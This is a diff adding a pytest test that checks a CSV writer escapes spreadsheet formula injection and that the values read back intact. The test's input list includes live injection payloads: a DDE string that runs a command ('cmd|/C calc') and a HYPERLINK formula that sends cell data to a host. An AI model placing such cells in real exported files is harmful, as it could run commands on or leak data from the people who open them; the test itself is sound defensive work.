@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 from collections.abc import Callable
 from pathlib import Path
@@ -10,6 +11,7 @@ import pytest
 
 from stages.project.csv_forms import form_rows, refuse
 from stages.project.errors import UserError
+from stages.project.files import write_csv
 
 
 def rows(folder: Path, content: bytes) -> list[tuple[int, dict[str, str]]]:
@@ -49,6 +51,27 @@ CELLS = [("a", "1"), ("b", "两"), ("c", "")]
 def test_the_same_rows(tmp_path: Path, change: Callable[[str], str], lines: list[int]) -> None:
     found = rows(tmp_path, change(PLAIN).encode())
     assert found == [(line, {"id": a, "said": b}) for line, (a, b) in zip(lines, CELLS, strict=True)]
+
+
+FORMULAS = [
+    "=1+1", "+1+1", "-1+cmd|'/C calc'!A0", "@SUM(A1)", "＝1", "＋1", "－1", "＠x", '=HYPERLINK("http://x"&A1,"y")',
+    "\t=1", "\r=1", " =1", "\u00a0=1", "\u200b=1", "'=1", '"=1', "''=1", "' - 1", "'-1", "- a list", "-", "+1 800 5",
+]  # fmt: skip
+OTHERS = ["", "a=1", "'", "'twas", "''", "-0.5", "+2", "1e-9", "-.5e+3", "狗", "– 5", "https://x/?a=b"]
+
+
+def test_no_spreadsheet_computes_what_others_wrote_and_every_text_is_read_again(tmp_path: Path) -> None:
+    texts = [*FORMULAS, *(f"'{text}" for text in FORMULAS), *OTHERS]
+    path = tmp_path / "sheet.csv"
+    write_csv(path, ["id", "=said"], [(number, text) for number, text in enumerate(texts)])
+    with path.open(newline="") as file:
+        [names, *cells] = csv.reader(file, strict=True)
+    assert names == ["id", "'=said"]
+    assert [cell for _, cell in cells] == [text if text in OTHERS else f"'{text}" for text in texts]
+    found = [row["=said"] for _, row in form_rows(path, ["id", "=said"], "")]
+    assert found == [text.strip() for text in texts]
+    write_csv(path, ["x"], [(-0.5,), (None,), (3,)])
+    assert path.read_text() == 'x\n-0.5\n""\n3\n'
 
 
 @pytest.mark.parametrize("kind", ["folder", "pipe", "link"])
